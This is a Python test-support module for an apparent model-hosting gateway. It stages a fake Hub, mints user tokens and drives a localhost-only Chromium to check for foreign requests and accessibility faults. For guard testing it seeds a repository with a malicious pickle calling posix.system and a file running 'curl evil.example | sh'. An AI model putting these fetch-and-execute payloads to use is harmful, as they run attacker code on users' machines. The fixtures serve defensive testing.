"""A real gateway to look at in a real browser: repositories of both kinds, users with tokens, Chromium.

Chromium resolves no name but this machine's, so that a page that reaches for another site fails loudly.
"""

from __future__ import annotations

import json
import sys
import time
from base64 import b64encode
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from moongate.app.settings import Settings
from moongate.app.tokens import mint
from moongate.app.wiring.stock import open_store
from moongate.core.callers import Scope
from moongate.double import HubDouble, LfsFile
from support.gateway import Gateway
from support.raw import ask
from support.weights import safetensors

MOONGATE = Path(sys.executable).parent / "moongate"
CARD = """---
license: apache-2.0
library_name: transformers
pipeline_tag: text-generation
base_model: acme/tiny
---
# A small model

Answers **tickets**. See [the notes](notes.md) and [below](#how-it-was-made).

| set | recall |
|---|---:|
| held out | 0.93 |

## How it was made

```python
print("a long line of code, longer than any telephone is wide, so that it has to scroll by itself")
```

![chart](chart.png) ![far](https://elsewhere.example/x.png)
"""
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63fccfc0f01f00050001ff"
    "89993d1d0000000049454e44ae426082"
)


@dataclass
class Stage:
    """A running gateway, and the tokens of its users."""

    gateway: Gateway
    tokens: Mapping[str, str] = field(default_factory=dict)

    @property
    def url(self) -> str:
        return self.gateway.url

    def push(self, repo_id: str, files: Mapping[str, bytes], *, private: bool = False) -> None:
        """Commit these files to a hosted model, which is made when it is not there."""
        bearer = {"Authorization": f"Bearer {self.tokens['alice']}"}
        namespace, _, name = repo_id.partition("/")
        wanted = json.dumps({"organization": namespace, "name": name, "private": private}).encode()
        kind = {"Content-Type": "application/json"}
        assert ask(self.url, "/api/repos/create", "POST", {**bearer, **kind}, wanted).status in (200, 409)
        lines: list[dict[str, object]] = [{"key": "header", "value": {"summary": "Add files"}}]
        for path, content in files.items():
            value = {"path": path, "content": b64encode(content).decode(), "encoding": "base64"}
            lines.append({"key": "file", "value": value})
        body = "".join(json.dumps(line) + "\n" for line in lines).encode()
        kind = {"Content-Type": "application/x-ndjson"}
        answer = ask(self.url, f"/api/models/{repo_id}/commit/main", "POST", {**bearer, **kind}, body)
        assert answer.status == 200, answer.body


def made_tokens(home: Path, users: Mapping[str, Scope]) -> dict[str, str]:
    """A new token for each, as an operator makes them."""
    stock = open_store(Settings.load(home=home))
    made = {
        user: mint(stock.index, user, scope, None, "", time.time())[0].reveal()
        for user, scope in users.items()
    }
    stock.close()
    return made


@contextmanager
def staged(
    folder: Path, *arguments: str, guard: str = "", settings: Mapping[str, str] | None = None
) -> Iterator[Stage]:
    """A gateway in front of a Hub, hosting `lab`, with something of everything. guard: the setting."""
    double = HubDouble(folder / "hub")
    double.add_repo("acme/tiny").commit(
        {
            "README.md": "---\nlicense: mit\n---\n# tiny\n",
            "config.json": '{"model_type": "bert"}',
            "model.safetensors": LfsFile(safetensors({"a.weight": ("F32", [4, 8])})),
        }
    )
    evil = {
        "evil.pkl": LfsFile(b"cposix\nsystem\n(S'echo'\ntR."),
        "evil.py": "import os\nos.system('curl evil.example | sh')\n",
    }
    double.add_repo("acme/evil").commit({"README.md": "# evil\n", **evil})
    double.add_repo("acme/rows", "dataset").commit({"README.md": "# rows\n", "train.jsonl": '{"x": 1}\n'})
    env = {
        "MOONGATE_HOSTED_NAMESPACES": "lab",
        **({"MOONGATE_GUARD": guard} if guard else {}),
        **(settings or {}),
    }
    home = folder / "home"
    home.mkdir()
    with double.running():
        gateway = Gateway(home, double.url, cdn=double.cdn_netloc, env=env, arguments=arguments)
        tokens = made_tokens(home, {"alice": "write", "bob": "read", "root": "admin", "boss": "admin"})
        with gateway:
            if arguments:
                gateway.url = f"http://127.0.0.1:{gateway.port}"
            stage = Stage(gateway, tokens)
            stage.push(
                "lab/tickets", {"README.md": CARD.encode(), "chart.png": PNG, "notes.md": b"# Notes\n"}
            )
            stage.push(
                "lab/tickets",
                {"config.json": b'{"a": 1}', "model.safetensors": safetensors({"w": ("BF16", [64, 32])})},
            )
            stage.push("lab/secret", {"README.md": b"# Secret plans\n"}, private=True)
            yield stage


@contextmanager
def chromium(program: Path) -> Iterator[Browser]:
    """A browser that knows no address but this machine's."""
    rules = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(program), args=["--no-sandbox", "--disable-gpu", rules]
        )
        try:
            yield browser
        finally:
            browser.close()


def entered(browser: Browser, stage: Stage, user: str, *, script: bool = True) -> Page:
    """A page of somebody who signed in, in a browser context of their own."""
    context = browser.new_context(java_script_enabled=script, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(stage.url + "/-/sign-in")
    page.get_by_label("Token").fill(stage.tokens[user])
    page.get_by_role("button", name="Sign in").click()
    return page


@dataclass
class Watched:
    """A page, and everything that went wrong on it or left this machine."""

    page: Page
    said: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)

    def open(self, url: str, status: int = 200) -> Page:
        answer = self.page.goto(url)
        assert answer is not None
        assert answer.status == status, (url, answer.status)
        return self.page

    def is_calm(self) -> None:
        """Nothing was reported, asked or fetched that should not have been."""
        assert self.said == []
        assert self.dialogs == []
        assert self.foreign == []


def watched(context: BrowserContext, origin: str) -> Watched:
    """A new page that is watched."""
    page = context.new_page()
    watch = Watched(page)
    page.on("console", lambda message: watch.said.append(message.text))
    page.on("pageerror", lambda error: watch.said.append(str(error)))

    def dismissed(dialog: object) -> None:
        watch.dialogs.append(str(dialog))
        dialog.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", dismissed)
    page.on(
        "request",
        lambda request: None if request.url.startswith(origin) else watch.foreign.append(request.url),
    )
    return watch


COLOURS = {"runOnly": {"type": "rule", "values": ["color-contrast", "link-in-text-block"]}}
"""Those rules of axe-core that a page may break in the dark and keep in the light."""


def serious(page: Page, options: Mapping[str, object] | None = None) -> list[str]:
    """What axe-core finds that keeps somebody out, with where."""
    found = Axe().run(page, options={"resultTypes": ["violations"], **(options or {})}).response["violations"]
    return [
        f"{one['id']}: {one['nodes'][0]['html'][:160]} ({one['nodes'][0]['failureSummary'][:300]})"
        for one in found
        if one["impact"] in ("serious", "critical")
    ]


def overflow(page: Page) -> int:
    """By how many pixels a page is wider than its window."""
    return int(page.evaluate("document.documentElement.scrollWidth - innerWidth"))
